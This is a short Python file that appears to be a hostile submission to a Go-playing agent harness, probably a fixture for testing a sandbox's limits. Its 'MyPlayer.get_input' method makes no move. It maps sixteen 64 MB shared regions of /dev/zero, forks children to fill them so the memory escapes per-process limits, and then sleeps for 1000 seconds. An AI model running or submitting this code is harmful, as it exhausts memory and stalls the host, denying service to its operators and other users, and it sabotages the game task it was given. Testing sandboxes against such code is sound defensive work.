"""Hoards memory in shared mappings of /dev/zero that its children fill."""

import ctypes
import os
import time


class MyPlayer:
    def get_input(self, go, piece_type):
        libc = ctypes.CDLL(None)
        libc.mmap.restype = ctypes.c_void_p
        with open("/dev/zero", "r+b", buffering=0) as zero:
            for _ in range(16):
                start = libc.mmap(None, ctypes.c_size_t(64 << 20), 3, 1, zero.fileno(), ctypes.c_long(0))
                child = os.fork()
                if not child:
                    ctypes.memset(ctypes.c_void_p(start), 1, 64 << 20)
                    os._exit(0)
                os.waitpid(child, 0)
        time.sleep(1000)
